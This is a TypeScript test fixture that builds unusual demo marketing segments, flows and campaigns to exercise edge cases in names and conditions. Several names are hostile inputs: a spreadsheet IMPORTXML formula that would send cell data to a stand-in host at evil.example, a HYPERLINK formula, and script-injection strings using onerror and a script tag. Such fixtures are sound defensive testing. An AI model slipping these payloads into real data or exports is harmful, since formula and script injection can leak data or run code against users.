import type { StoredCampaign } from '../../klaviyo/account-data';
import { longId } from '../../klaviyo/identifiers';
import { alltime, count, definition, inTheLast, never, notInGroup, once, own, property, subscribed, sum, text } from './definition';
import { email } from './flow-builder';
import type { FlowSpec } from './flow-spec';
import { onSegment } from './flow-spec';
import type { SegmentSpec } from './segment-spec';
import { segmentId } from './segment-spec';
import { DAY, L, M } from './shop';

const { order, click, site, viewed } = M;

/** Text that a spreadsheet, a page or a careless program would trip over. */
const LONG_NAME = `Spring launch audience (do not edit!!) ${'copy of copy of '.repeat(15)}`.padEnd(300, '–').slice(0, 300);

/** What the odd account has beside the demo: names that would be a formula, markup or another direction, and a condition of a year to come. */
export const ODD_SEGMENTS: readonly SegmentSpec[] = [
  {
    key: 'formula',
    name: '=IMPORTXML("https://evil.example/?q="&A1,"//a")',
    definition: definition(once(viewed, inTheLast(21)), never(order, inTheLast(21))),
    age: 75,
  },
  {
    key: 'markup',
    name: '<b>Bold buyers</b> <img src=x onerror=alert(1)>',
    definition: definition(once(order, inTheLast(45)), once(site, inTheLast(10))),
    age: 74,
  },
  { key: 'long', name: LONG_NAME, definition: definition(once(click, inTheLast(20)), never(order, inTheLast(20))), age: 73 },
  { key: 'emoji', name: '🔥🔥 Hot leads 👩🏽‍🔬', definition: definition(count(site, '>=', 3, inTheLast(14)), never(order)), age: 72 },
  {
    key: 'hebrew',
    name: 'לקוחות VIP – תל אביב',
    definition: definition(sum(order, '>=', 250, inTheLast(365)), property("location['country']", text('equals', 'Israel'))),
    age: 71,
  },
  { key: 'arabic', name: 'عملاء مميزون (+5 طلبات)', definition: definition(count(order, '>=', 5, inTheLast(365))), age: 70 },
  { key: 'neverAndOnce', name: 'Bought recently, never bought', definition: definition(never(order), once(order, inTheLast(90))), age: 250 },
  {
    key: 'future',
    name: 'Likely to love the new mask',
    age: 20,
    processing: true,
    definition: definition(subscribed('email'), {
      type: 'profile-affinity-score',
      model: 'product-2027',
      score: { type: 'numeric', operator: 'greater-than', value: 0.8 },
    }),
  },
  { key: 'plus', name: '+1 referral friends', definition: definition(own('Sign-up Source', text('equals', 'Instagram')), never(order, alltime)), age: 65 },
];

export const ODD_FLOWS: readonly FlowSpec[] = [
  {
    key: 'hostile',
    name: '=HYPERLINK("https://evil.example","Click")',
    status: 'draft',
    trigger: onSegment(segmentId('emoji')),
    age: 60,
    profileFilter: definition(never(order, inTheLast(30)), notInGroup(segmentId('recent14'))),
    steps: [email('<script>alert("flow")</script>')],
  },
];

/** A draft whose name a sheet would count. */
export function oddCampaigns(today: number): readonly StoredCampaign[] {
  const name = '=SUM(A1:A9) test send';
  return [
    {
      id: longId(1, 'campaign', name),
      name,
      channel: 'email',
      status: 'Draft',
      archived: false,
      included: [L.internal],
      excluded: [],
      createdAt: today - 45 * DAY,
      scheduledAt: null,
      updatedAt: today - 45 * DAY,
      sendTime: null,
      smartSending: true,
      sendStrategy: { method: 'immediate' },
      tagIds: [],
      messages: [{ id: longId(1, 'message', name), label: name, subject: name }],
    },
  ];
}
